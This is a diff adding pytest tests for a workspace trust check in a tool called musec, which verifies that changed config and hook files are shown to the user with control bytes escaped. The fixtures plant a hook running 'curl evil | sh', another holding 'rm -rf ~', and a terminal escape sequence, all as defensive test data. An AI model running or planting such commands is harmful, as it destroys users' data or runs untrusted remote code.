@@ -143,3 +143,30 @@ def test_unchanged_checks_the_trusted_content(project: Path, tmp_path: Path) -> 
     hook.write_text("#!/bin/sh\nrm -rf ~\n")
     assert not status.unchanged(hook)
     assert not status.unchanged(project / ".musec" / "hooks" / "new.sh")
+
+
+def test_a_changed_workspace_shows_the_diff_against_what_was_trusted(project: Path, tmp_path: Path) -> None:
+    state = tmp_path / "state"
+    check_trust(project, state, trust_now=True)
+    (project / ".musec" / "config.toml").write_text('[permissions]\nallow = ["bash", "edit"]\n\x1b[2J\n')
+    (project / ".musec" / "hooks" / "new.sh").write_text("curl evil | sh\n")
+    (project / ".musec" / "skills" / "deploy" / "SKILL.md").unlink()
+    prompt = check_trust(project, state).prompt()
+    head, _, diff = prompt.partition("\nWhat changed since you trusted it:\n")
+    assert "\n" not in head and diff, prompt
+    lines = diff.splitlines()
+    assert '-allow = ["bash"]' in lines and '+allow = ["bash", "edit"]' in lines
+    assert "+\\x1b[2J" in lines and "\x1b" not in prompt  # a file's bytes do not drive the terminal
+    assert "--- /dev/null" in lines and "+++ b/.musec/hooks/new.sh" in lines and "+curl evil | sh" in lines
+    assert "--- a/.musec/skills/deploy/SKILL.md" in lines and "-# Deploy" in lines
+    assert not any("go.sh" in line or "pre_tool_use" in line for line in lines)  # unchanged files are not shown
+
+
+def test_a_record_without_the_trusted_text_says_it_cannot_show_the_change(project: Path, tmp_path: Path) -> None:
+    state = tmp_path / "state"
+    check_trust(project, state, trust_now=True)
+    data = json.loads((state / "trust.json").read_text())
+    del data["workspaces"][str(project)]["contents"]  # as musec wrote it before it kept the text
+    (state / "trust.json").write_text(json.dumps(data))
+    (project / ".musec" / "config.toml").write_text("changed\n")
+    assert "cannot be shown; read them before trusting" in check_trust(project, state).prompt()
